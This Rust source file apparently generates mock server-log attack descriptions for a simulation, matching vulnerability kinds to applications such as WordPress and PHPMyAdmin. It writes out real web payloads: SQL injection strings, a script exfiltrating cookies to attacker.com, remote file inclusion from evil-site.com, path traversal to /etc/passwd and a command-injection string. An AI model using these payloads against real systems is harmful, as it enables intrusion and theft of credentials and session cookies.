use crate::models::webapp::VulnKind;

/// Render a plausible attack-detail string for the server log, specialised
/// per application where the original payloads differ (WordPress,
/// PHPMyAdmin, E-commerce) and falling back to a generic description.
pub fn attack_details(kind: VulnKind, app_name: &str, path: &str) -> String {
    match kind {
        VulnKind::SqlInjection => match app_name {
            "WordPress" => format!("{path}?id=1' OR 1=1 -- -"),
            "PHPMyAdmin" => format!("{path}?sql_query=SELECT * FROM users WHERE 1=1;"),
            "E-commerce" => {
                format!("{path}?product_id=1' UNION SELECT username,password FROM users -- -")
            }
            _ => generic(path),
        },
        VulnKind::Xss => match app_name {
            "WordPress" => format!(
                "{path} with comment containing <script>document.location='http://attacker.com/steal.php?c='+document.cookie</script>"
            ),
            "E-commerce" => {
                format!("{path}?search=<img src=\"x\" onerror=\"alert(document.cookie)\">")
            }
            _ => generic(path),
        },
        VulnKind::Rfi => format!("{path}?template=http://evil-site.com/malicious.php"),
        VulnKind::Lfi => format!("{path}?include=../../../etc/passwd"),
        VulnKind::CommandInjection => {
            format!("{path}?cmd=ping -c 4 8.8.8.8; cat /etc/passwd")
        }
        VulnKind::Csrf => format!("POST {path} with forged form submission from external site"),
    }
}

fn generic(path: &str) -> String {
    format!("{path} with malicious payload")
}
